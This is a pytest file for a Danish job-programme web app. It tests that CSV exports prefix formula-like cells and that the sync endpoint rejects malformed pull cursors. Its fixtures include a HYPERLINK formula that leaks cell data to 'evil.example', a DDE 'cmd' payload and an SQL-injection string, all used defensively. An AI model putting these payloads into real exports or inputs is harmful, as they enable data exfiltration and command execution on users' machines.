"""Exports and inputs: CSV cells cannot become formulas; any malformed pull cursor is a 400."""

from __future__ import annotations

import base64
import csv
import io
import json
from datetime import date

import pytest

from backend.csv_export import safe_cell, to_csv
from backend.extensions import db
from backend.models import User
from backend.programmes import service
from tests.backend.world import Api, build_world, web_login


@pytest.mark.parametrize(
    "value",
    [
        '=HYPERLINK("http://evil.example","klik")',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(A1:A9)",
        "\tTab",
        "\rCR",
        "=1+1",
        "-",
        "+",
        "@",
    ],
)
def test_formula_like_cells_are_neutralised(value):
    assert safe_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["Unge på Toppen", "-3", "-12,5", "+4", "60,0 %", "–", "", "2026-01", 5, -5, None])
def test_ordinary_cells_are_unchanged(value):
    assert safe_cell(value) == value


def test_to_csv_neutralises_headers_and_rows():
    out = to_csv(["=Navn", "Antal"], [["@x", -2], ["ok", "=A1"]])
    rows = list(csv.reader(io.StringIO(out.lstrip("\ufeff")), delimiter=";"))
    assert rows == [["'=Navn", "Antal"], ["'@x", "-2"], ["ok", "'=A1"]]


def test_programme_named_like_a_formula_reaches_the_results_csv_neutralised(app, client):
    app.config["TRINVIS_TODAY"] = "2026-06-15"
    w = build_world(app)
    evil = '=HYPERLINK("http://evil.example/?x="&A1,"Se resultater")'
    with app.app_context():
        ahmed = db.session.get(User, w.users["ahmed"])
        p = service.save_programme(
            ahmed,
            None,
            {
                "name": evil,
                "description": "",
                "organization_id": w.orgs["Jobcenter"],
                "capacity": 20,
                "team_size": None,
                "hours_per_week": None,
                "start_rule": "",
                "active": True,
                "phases": [("Forløb", 16)],
                "effects": [("job", 60, 12)],
                "activities": [],
            },
        )
        service.enrol(db.session.get(User, w.users["ahmed"]), w.youths["mads"], p, date(2026, 1, 5), None)
        db.session.commit()  # the caller owns the transaction, as a request does
        db.session.remove()
    web_login(client, w.users["ahmed"])
    r = client.get("/results/export/cohorts.csv?from=2026-01&to=2026-06")
    assert r.status_code == 200
    rows = list(csv.reader(io.StringIO(r.get_data(as_text=True).lstrip("\ufeff")), delimiter=";"))
    cells = [c for row in rows for c in row]
    assert "'" + evil in cells
    assert not any(c.startswith(("=", "+", "@", "\t", "\r")) for c in cells)


def b64(raw: bytes) -> str:
    return base64.urlsafe_b64encode(raw).decode().rstrip("=")


def cur(state) -> str:
    return b64(json.dumps(state).encode())


UUID = "12345678-1234-1234-1234-123456789abc"
BAD_CURSORS = {
    "not base64": "not-base64!!",
    "one char": "A",
    "bad padding": "e30===",
    "not utf-8": b64(b"\xff\xfe\xfa"),
    "not json": b64(b"{s:1"),
    "json list": cur([1, 2]),
    "json string": cur("s"),
    "json null": cur(None),
    "empty object": cur({}),
    "s string": cur({"s": "1"}),
    "s float": cur({"s": 1.5}),
    "s bool": cur({"s": True}),
    "s null": cur({"s": None}),
    "s negative": cur({"s": -1}),
    "s huge": cur({"s": 10**30}),
    "s past bigint": cur({"s": 2**63}),
    "s very long number": b64(b'{"s":' + b"9" * 5000 + b"}"),
    "s NaN": b64(b'{"s":NaN}'),
    "s Infinity": b64(b'{"s":Infinity}'),
    "g huge": cur({"s": 0, "g": 10**20}),
    "r negative": cur({"s": 0, "r": -5}),
    "t string": cur({"s": 0, "t": "x"}),
    "cs huge": cur({"s": 0, "c": [UUID], "cs": 10**25, "cu": 0}),
    "c not list": cur({"s": 0, "c": UUID, "cs": 0, "cu": 0}),
    "c not uuid": cur({"s": 0, "c": ["x' OR 1=1"], "cs": 0, "cu": 0}),
    "c ints": cur({"s": 0, "c": [1], "cs": 0, "cu": 0}),
    "c without cs": cur({"s": 0, "c": [UUID]}),
    "c empty": cur({"s": 0, "c": [], "cs": 0, "cu": 0}),
    "i odd": cur({"s": 0, "i": 7}),
    "deep nesting": b64(b'{"s":0,"x":' + b"[" * 2500 + b"]" * 2500 + b"}"),
    "ahead of server": cur({"s": 9_999_999}),
}


@pytest.mark.parametrize("name", list(BAD_CURSORS))
def test_malformed_cursor_is_a_400_with_a_clear_error(app, client, name):
    w = build_world(app)
    assert w
    lise = Api(client, "lise")
    r = client.get("/api/v1/sync/pull", headers=lise.headers, query_string={"cursor": BAD_CURSORS[name]})
    assert r.status_code == 400, (name, r.status_code, r.get_data(as_text=True)[:200])
    err = r.get_json()["error"]
    assert err["code"] == "invalid_cursor" or (err["code"] == "invalid" and len(BAD_CURSORS[name]) > 4000)
    assert "cursor" in err["message"].lower()


def test_a_good_cursor_still_works_and_unknown_keys_are_ignored(app, client):
    build_world(app)
    lise = Api(client, "lise")
    page = lise.pull_page()
    state = json.loads(base64.urlsafe_b64decode(page["cursor"] + "=" * (-len(page["cursor"]) % 4)))
    state["future_key"] = {"x": 1}
    again = lise.pull_page(cur(state))
    assert again["changes"] == [] and again["has_more"] is False
